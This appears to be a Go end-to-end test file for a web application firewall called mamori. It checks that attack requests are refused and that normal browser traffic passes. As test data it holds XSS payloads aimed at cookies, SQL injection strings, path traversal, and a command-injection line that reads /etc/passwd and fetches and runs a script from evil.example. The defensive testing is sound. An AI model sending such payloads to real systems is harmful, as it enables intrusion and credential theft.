package e2e

import (
	"io"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/mamori-waf/mamori/tests/harness"
)

// Issue 11: mamori's detection layers add detection, never remove what CRS
// PL1 detects. Attacks padded with prose (which the text gate once let
// through 34 CRS rules, libinjection and 941120 among them) are refused
// with the defaults as with plain CRS (`detection off`), in a query string
// and in a form body.
func TestLayersNeverRemoveCRSCoverage(t *testing.T) {
	upstream := harness.Upstream(t)
	sites := map[string]*harness.Mamori{
		"defaults": harness.StartMamori(t, strings.Replace(siteCaddyfile, "mode MODE", "mode block", 1), upstream),
		"crs":      harness.StartMamori(t, strings.Replace(siteCaddyfile, "mode MODE", "mode block\n\t\tdetection off", 1), upstream),
	}
	padded := []struct{ name, value string }{
		{"img_onerror_after_prose", "<img src=x alt=\"a b c\"\nonerror=alert(document.cookie)>"},
		{"svg_onload_in_prose", "I liked the article very much and wanted to say so\n<svg onload=alert(1)>"},
		{"blind_sqli_then_prose", "1' AND SLEEP(5)-- -\nthanks for the quick reply, see you next week"},
		{"command_then_prose", "x\n; cat /etc/passwd; curl http://evil.example/x|sh\nplease check the logs for me"},
		{"backslash_traversal_in_prose", "the settings file is ..\\..\\..\\windows\\win.ini as the manual says"},
	}
	for _, c := range padded {
		for _, where := range []string{"query", "form"} {
			t.Run(c.name+"/"+where, func(t *testing.T) {
				for name, m := range sites {
					var req *http.Request
					if where == "query" {
						req, _ = http.NewRequest("GET", m.URL+"/echo?search="+url.QueryEscape(c.value), nil)
					} else {
						req, _ = http.NewRequest("POST", m.URL+"/echo", strings.NewReader("comment="+url.QueryEscape(c.value)))
						req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
					}
					resp, err := http.DefaultClient.Do(req)
					if err != nil {
						t.Fatal(err)
					}
					_, _ = io.Copy(io.Discard, resp.Body)
					resp.Body.Close()
					if resp.StatusCode != http.StatusForbidden {
						t.Errorf("%s: status %d, want 403", name, resp.StatusCode)
					}
				}
			})
		}
	}
}

// Issue 11: the body processor follows the Content-Type. Types that are
// neither forms nor XML nor JSON (beacons, protobuf, NDJSON) are read as
// raw bytes, never as URL-encoded forms, and are not refused for their
// type unless the operator restricts the types; JSON types go to the JSON
// parser; attacks in raw and JSON bodies are still refused.
func TestBodyProcessorByContentType(t *testing.T) {
	upstream := harness.Upstream(t)
	restricted := "mode block\n\t\tsetup_directives <<SECLANG\n\t\t\tSecAction \"id:900006,phase:1,nolog,pass,setvar:'tx.allowed_request_content_type=|application/x-www-form-urlencoded| |multipart/form-data| |application/json|'\"\n\t\t\tSECLANG"
	sites := map[string]*harness.Mamori{
		"defaults":   harness.StartMamori(t, strings.Replace(siteCaddyfile, "mode MODE", "mode block", 1), upstream),
		"restricted": harness.StartMamori(t, strings.Replace(siteCaddyfile, "mode MODE", restricted, 1), upstream),
	}
	for _, c := range []struct {
		name, site, contentType, body string
		want                          int
	}{
		{"protobuf_binary_names", "defaults", "application/x-protobuf", "\n\x0bhello\r\nworld\x12\x03a=b\x1a\x02\r\n&x\x00\xff", 200},
		{"text_plain_beacon", "defaults", "text/plain;charset=UTF-8", "{\"events\":[{\"t\":\"click\",\"x\":12}]}\r\nid=5&\x01\x02", 200},
		{"octet_stream_blob", "defaults", "application/octet-stream", "\x00\x01\x02\r\n\r\n=&=&", 200},
		{"ndjson_stream", "defaults", "application/x-ndjson", "{\"a\":1}\n{\"b\":\"two words\"}\n", 200},
		{"reporting_api", "defaults", "application/reports+json", `[{"type":"csp-violation","age":10,"url":"https://a.example/","body":{"blockedURL":"inline"}}]`, 200},
		{"csp_report", "defaults", "application/csp-report", `{"csp-report":{"document-uri":"https://a.example/","violated-directive":"script-src"}}`, 200},
		{"sqli_in_raw_body", "defaults", "text/plain", `{"q":"1 UNION SELECT password FROM users"}`, 403},
		{"java_in_raw_body", "defaults", "text/plain", "test=java.lang.Runtime", 403},
		{"xss_in_json_report", "defaults", "application/reports+json", `{"q":"<script>alert(1)</script>"}`, 403},
		{"operator_restricts_types", "restricted", "text/plain", "hello", 403},
		{"operator_restricts_types_json_passes", "restricted", "application/json", `{"a":"hello"}`, 200},
	} {
		t.Run(c.name, func(t *testing.T) {
			req, _ := http.NewRequest("POST", sites[c.site].URL+"/echo", strings.NewReader(c.body))
			req.Header.Set("Content-Type", c.contentType)
			resp, err := http.DefaultClient.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			b, _ := io.ReadAll(resp.Body)
			resp.Body.Close()
			if resp.StatusCode != c.want {
				t.Fatalf("status %d, want %d\n%.300s", resp.StatusCode, c.want, b)
			}
		})
	}
}

// Issue 11: the default limits let real browser traffic through: a
// telemetry query whose only "name" is a JSON blob (3 KiB), a 16 KiB
// request target; a 40 KiB one is still refused (431 from Caddy's own
// 16 KiB header limit, which counts the request line, before mamori's
// 32 KiB uri_length).
func TestDefaultLimitsLetRealTrafficThrough(t *testing.T) {
	upstream := harness.Upstream(t)
	m := harness.StartMamori(t, strings.Replace(siteCaddyfile, "mode MODE", "mode block", 1), upstream)
	blob := `{"T":"CI.Init","FID":"CI","Name":"` + strings.Repeat("x", 3000) + `"}`
	for _, c := range []struct {
		name, target string
		want         int
	}{
		{"json_blob_name", "/echo?" + url.QueryEscape(blob), 200},
		{"long_target", "/echo?state=" + strings.Repeat("a", 16<<10), 200},
		{"too_long_target", "/echo?state=" + strings.Repeat("a", 40<<10), 431},
	} {
		resp, err := http.Get(m.URL + c.target)
		if err != nil {
			t.Fatal(err)
		}
		_, _ = io.Copy(io.Discard, resp.Body)
		resp.Body.Close()
		if resp.StatusCode != c.want {
			t.Errorf("%s: status %d, want %d", c.name, resp.StatusCode, c.want)
		}
	}
}

// Issue 11: a URL-valued header (Referer) is judged as a URL, parameter by
// parameter: a Movable Type admin save whose Referer is the edit screen
// passes (the copy of 932235 on the whole string once refused it), and an
// attack in a Referer's parameter, path or a Referer that is no URL is
// still refused.
func TestURLValuedHeadersAreJudgedAsURLs(t *testing.T) {
	upstream := harness.Upstream(t)
	m := harness.StartMamori(t, strings.Replace(siteCaddyfile, "mode MODE", "mode block", 1), upstream)
	for _, c := range []struct {
		name, referer string
		want          int
	}{
		{"mt_edit_screen", m.URL + "/cgi-bin/mt/mt.cgi?__mode=view&_type=entry&blog_id=1&id=12", 200},
		{"mt_list_screen", m.URL + "/cgi-bin/mt/mt.cgi?__mode=list&_type=entry&blog_id=1&filter=status&filter_val=2", 200},
		{"search_page", m.URL + "/search?q=select+a+theme+and+update+the+menu&page=2", 200},
		{"sqli_in_a_parameter", m.URL + "/page?id=" + url.QueryEscape("1' UNION SELECT password FROM users-- -"), 403},
		{"xss_in_a_parameter", m.URL + "/page?q=" + url.QueryEscape("<script>alert(document.cookie)</script>"), 403},
		{"command_in_a_parameter", m.URL + "/page?host=" + url.QueryEscape(";cat /etc/passwd"), 403},
		{"not_a_url", "1' OR '1'='1' -- -", 403},
		// A results page's Referer carries what someone searched for: a
		// query value of words only (a search phrase) is left to CRS's
		// rules on the whole header; one with SQL syntax is still judged
		// by every copy and signature, encoded or not.
		{"search_phrase_naming_sql", m.URL + "/search?q=site%3Aexample.com%20union%20select%20%E5%85%B3%E9%94%AE%E5%AD%97%E6%80%8E%E4%B9%88%E7%94%A8&form=QBRE", 200},
		{"search_phrase_sql_statement", "https://www.example.com/search?type=content&q=select+1+from+a", 200},
		{"sqli_union_with_a_select_list", m.URL + "/page?id=" + url.QueryEscape("<storeId>1 UNION SELECT username, password FROM users--</storeId>"), 403},
		{"sqli_case_when", m.URL + "/page?id=" + url.QueryEscape("SELECT CASE WHEN (1=1) THEN 1/0 ELSE NULL END"), 403},
		{"sqli_tautology_in_base64", m.URL + "/page?name=eyJpZCI6IjEgYW5kIDE9MSJ9", 403},
		{"sqli_tautology_cross_site", "https://www.example.com/search?q=" + url.QueryEscape("1 and 1=1"), 403},
	} {
		t.Run(c.name, func(t *testing.T) {
			req, _ := http.NewRequest("POST", m.URL+"/echo", strings.NewReader("title=Hello&text=A+short+entry."))
			req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
			req.Header.Set("Sec-Fetch-Site", "same-origin")
			req.Header.Set("Referer", c.referer)
			resp, err := http.DefaultClient.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			_, _ = io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
			if resp.StatusCode != c.want {
				t.Errorf("status %d, want %d", resp.StatusCode, c.want)
			}
		})
	}
}
